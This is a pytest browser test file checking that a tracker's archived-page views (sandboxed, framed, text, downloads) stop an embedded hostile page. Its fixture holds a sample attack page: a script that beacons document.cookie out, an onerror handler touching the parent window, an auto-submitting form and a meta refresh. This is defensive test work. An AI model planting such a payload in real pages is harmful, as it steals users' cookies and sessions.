"""In Chromium: an archived hostile page, opened every way the tracker offers, runs no script,
submits no form, follows no refresh and cannot read the tracker's cookies."""

from __future__ import annotations

import pytest

from tests.evidence.pages import Pages
from tests.evidence.support import fetches_of, publish_source

pytestmark = pytest.mark.browser

HOSTILE = """<!doctype html>
<html><head><meta charset="utf-8"><title>Archived page</title>
<meta http-equiv="refresh" content="1;url={refreshed}">
<script>
  document.title = "owned by script";
  try {{ window.parent.pwned = "script"; window.top.pwned = "script"; }} catch (e) {{}}
  new Image().src = "{beacon}?cookie=" + encodeURIComponent(document.cookie);
</script></head>
<body><h1>An archived page</h1>
<img src="{beacon}?img"
  onerror="document.title = 'owned by onerror'; window.parent.pwned = 'onerror'">
<form id="f" method="post" action="{tracker}/submit/brand"><input name="name" value="Evil">
<button id="go">Send</button></form>
<script>document.getElementById("f").submit();</script>
</body></html>"""


@pytest.fixture
def app_config() -> dict:
    return {"JOBS_IMMEDIATE": True, "FETCH_ALLOW_HOSTS": ["127.0.0.1"]}


@pytest.fixture
def hostile(app, live_app):
    """A hostile page on a loopback 'web site', archived by the tracker."""
    site = Pages()
    body = HOSTILE.format(
        refreshed=site.url("/refreshed"), beacon=site.url("/beacon"), tracker=live_app.url
    )
    url = site.add("/hostile", body)
    publish_source(app, url, title="A hostile page")
    [capture] = fetches_of(app, url)
    yield site, capture
    site.close()


def _watch(page) -> list[str]:
    """Record every request the page makes to the tracker other than GET (form posts)."""
    posts: list[str] = []
    page.on("request", lambda request: request.method != "GET" and posts.append(request.url))
    return posts


def _assert_nothing_ran(page, site, posts, start_url) -> None:
    page.wait_for_timeout(2000)  # longer than the page's 1 s meta refresh
    assert page.url == start_url
    assert "owned" not in page.title()
    assert "/refreshed" not in site.requests
    assert not [path for path in site.requests if path.startswith("/beacon")]
    assert posts == []


def test_the_sandboxed_view_runs_no_script_and_reads_no_cookie(live_app, page, hostile):
    site, capture = hostile
    page.context.add_cookies(
        [{"name": "probe", "value": "tracker-secret", "url": live_app.url, "httpOnly": False}]
    )
    posts = _watch(page)
    url = f"{live_app.url}/archived/{capture.id}/"
    page.goto(url)
    assert page.locator("h1").inner_text() == "An archived page"
    assert page.title() == "Archived page"
    _assert_nothing_ran(page, site, posts, url)
    # The document has an opaque origin: even a script given to it cannot read the cookie.
    cookie = page.evaluate(
        "() => { try { return document.cookie; } catch (error) { return error.name; } }"
    )
    assert "tracker-secret" not in cookie


def test_the_sandboxed_view_framed_by_the_tracker_cannot_touch_its_parent(live_app, page, hostile):
    site, capture = hostile
    posts = _watch(page)
    page.goto(f"{live_app.url}/about")
    title = page.title()
    page.evaluate(
        """(src) => { const frame = document.createElement("iframe");
                      frame.src = src; document.body.append(frame); }""",
        f"/archived/{capture.id}/",
    )
    frame = page.frame_locator("iframe")
    assert frame.locator("h1").inner_text() == "An archived page"
    _assert_nothing_ran(page, site, posts, f"{live_app.url}/about")
    assert page.title() == title
    assert page.evaluate("() => window.pwned === undefined")


def test_the_text_view_shows_the_markup_as_text(live_app, page, hostile):
    site, capture = hostile
    posts = _watch(page)
    url = f"{live_app.url}/archive/{capture.id}/text"
    page.goto(url)
    assert "<script>" in page.locator("body").inner_text()
    _assert_nothing_ran(page, site, posts, url)


@pytest.mark.parametrize("way", ["warc", "file"])
def test_the_downloads_are_downloaded_not_shown(live_app, page, hostile, way):
    site, capture = hostile
    posts = _watch(page)
    page.goto(f"{live_app.url}/sources/{capture.source_id}")
    start = page.url
    link = f"/archive/{capture.id}.warc.gz" if way == "warc" else f"/archive/{capture.id}/file"
    with page.expect_download() as download_info:
        page.locator(f'a[href="{link}"]').first.click()
    assert download_info.value.suggested_filename.startswith(f"capture-{capture.id}-")
    _assert_nothing_ran(page, site, posts, start)


def test_following_the_view_link_from_the_source_page(live_app, page, hostile):
    site, capture = hostile
    page.goto(f"{live_app.url}/sources/{capture.source_id}")
    page.get_by_role("link", name="View the archived page").click()
    page.wait_for_url(f"{live_app.url}/archived/{capture.id}/")
    assert page.title() == "Archived page"
    page.wait_for_timeout(1500)
    assert page.url == f"{live_app.url}/archived/{capture.id}/"
    assert "/refreshed" not in site.requests
